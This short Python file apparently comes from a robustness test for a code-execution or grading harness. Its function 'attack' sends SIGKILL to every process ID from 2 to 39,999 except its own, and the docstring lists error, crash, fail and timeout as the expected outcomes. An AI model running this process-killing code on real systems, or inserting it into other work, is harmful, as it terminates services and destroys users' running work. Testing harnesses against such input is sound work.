"""Kills one process number after the other.
Ends as: error, crash, fail, timeout
"""

import contextlib
import os
import signal


def attack(X, wrong):
    for process in range(2, 40_000):
        if process != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(process, signal.SIGKILL)
    return wrong
